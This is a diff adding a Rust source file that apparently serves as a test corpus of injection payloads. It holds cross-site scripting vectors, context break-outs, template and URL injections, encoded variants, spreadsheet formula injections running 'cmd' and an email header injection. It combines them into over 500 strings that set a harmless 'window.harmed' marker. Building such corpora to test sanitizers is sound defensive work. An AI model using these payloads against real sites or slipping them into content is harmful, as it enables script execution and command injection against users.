@@ -1,0 +1,117 @@
+//! What people write who want a page to run it: texts that set `window.harmed` wherever one of them is taken for
+//! markup, for a program, for an address or for a formula.
+
+/// Contexts to break out of.
+const BEFORE: &[&str] = &[
+    "",
+    "\">",
+    "'>",
+    "`>",
+    "</textarea>",
+    "</title>",
+    "</script>",
+    "</style>",
+    "-->",
+    "]]>",
+    "<svg>",
+    "<math><mtext>",
+    "<noscript><p title=\"</noscript>",
+    "<!--<img src=\"-->",
+];
+
+/// What runs once it is markup.
+const MARKUP: &[&str] = &[
+    "<script>harmed=1</script>",
+    "<ScRiPt >harmed=1</sCrIpT >",
+    "<script src=data:text/javascript,harmed=1></script>",
+    "<script\n>harmed=1</script\n>",
+    "<img src=x onerror=harmed=1>",
+    "<img src=x onerror='harmed=1'>",
+    "<img/src=\"x\"/onerror=\"harmed=1\">",
+    "<img src=x:x onerror\n=\nharmed=1>",
+    "<img src=x onerror=&#104;armed=1>",
+    "<img src=x onerror=\"window['har'+'med']=1\">",
+    "<IMG SRC=x ONERROR=harmed=1//",
+    "<image src=x onerror=harmed=1>",
+    "<svg onload=harmed=1>",
+    "<svg/onload=harmed=1//",
+    "<svg><script>harmed=1</script></svg>",
+    "<svg><animate onbegin=harmed=1 attributeName=x dur=1s>",
+    "<svg><a href=javascript:harmed=1><text y=20>click</text></a></svg>",
+    "<math href=javascript:harmed=1>click</math>",
+    "<body onload=harmed=1>",
+    "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
+    "<iframe src=javascript:parent.harmed=1></iframe>",
+    "<object data=javascript:harmed=1></object>",
+    "<embed src=javascript:harmed=1>",
+    "<details open ontoggle=harmed=1>",
+    "<video src=x onerror=harmed=1></video>",
+    "<audio src=x onerror=harmed=1></audio>",
+    "<video><source onerror=harmed=1></video>",
+    "<input autofocus onfocus=harmed=1>",
+    "<textarea autofocus onfocus=harmed=1>",
+    "<select autofocus onfocus=harmed=1>",
+    "<a href=javascript:harmed=1>click</a>",
+    "<a href=\"java\tscript:harmed=1\">click</a>",
+    "<form action=javascript:harmed=1><button>click</button></form>",
+    "<button formaction=javascript:harmed=1 autofocus>click</button>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:harmed=1\">",
+    "<base href=javascript:harmed=1//>",
+    "<link rel=stylesheet href=data:text/css,*{display:none}>",
+    "<style>@import 'javascript:harmed=1'; * { display: none }</style>",
+    "<p style=\"animation-name:rise\" onanimationstart=harmed=1>",
+    "<template><img src=x onerror=harmed=1></template>",
+    "<marquee onstart=harmed=1>",
+];
+
+/// What runs where it is taken for something else than markup, or is read twice.
+const OTHERS: &[&str] = &[
+    "';harmed=1;//",
+    "\";harmed=1;//",
+    "\\\";harmed=1;//",
+    "${harmed=1}",
+    "`${harmed=1}`",
+    "{{constructor.constructor('harmed=1')()}}",
+    "<%= harmed=1 %>",
+    "#{harmed=1}",
+    "javascript:harmed=1",
+    "JaVaScRiPt:harmed=1",
+    "data:text/html,<script>opener.harmed=1</script>",
+    "vbscript:harmed=1",
+    "https://oak.example/\"onmouseover=\"harmed=1",
+    "https://oak.example/'onmouseover='harmed=1",
+    "https://oak.example/<script>harmed=1</script>",
+    "https://oak.example/?javascript:harmed=1",
+    "http://javascript:harmed=1@oak.example/",
+    "mailto:ada@shop.example?bcc=all@shop.example\"onclick=\"harmed=1",
+    "[oak](javascript:harmed=1)",
+    "![oak](x\"onerror=\"harmed=1)",
+    "<javascript:harmed=1>",
+    "&lt;img src=x onerror=harmed=1&gt;",
+    "&amp;lt;script&amp;gt;harmed=1&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;harmed=1&#60;/script&#62;",
+    "&#x3c;script&#x3e;harmed=1&#x3c;/script&#x3e;",
+    "%3Cscript%3Eharmed=1%3C/script%3E",
+    "%253Cscript%253Eharmed=1",
+    "\\u003cscript\\u003eharmed=1\\u003c/script\\u003e",
+    "\\x3cscript\\x3eharmed=1",
+    "+ADw-script+AD4-harmed=1+ADw-/script+AD4-",
+    "＜script＞harmed=1＜/script＞",
+    "\u{202e}>tpircs/<1=demrah>tpircs<",
+    "__proto__",
+    "constructor",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=HYPERLINK(\"https://oak.example/\",\"click\")",
+    "Bcc: all@shop.example",
+];
+
+/// All of them, no two alike: more than 500.
+#[must_use]
+pub fn attacks() -> Vec<String> {
+    let markup =
+        BEFORE.iter().flat_map(|before| MARKUP.iter().map(move |markup| format!("{before}{markup}")));
+    markup.chain(OTHERS.iter().map(|other| (*other).to_owned())).collect()
+}
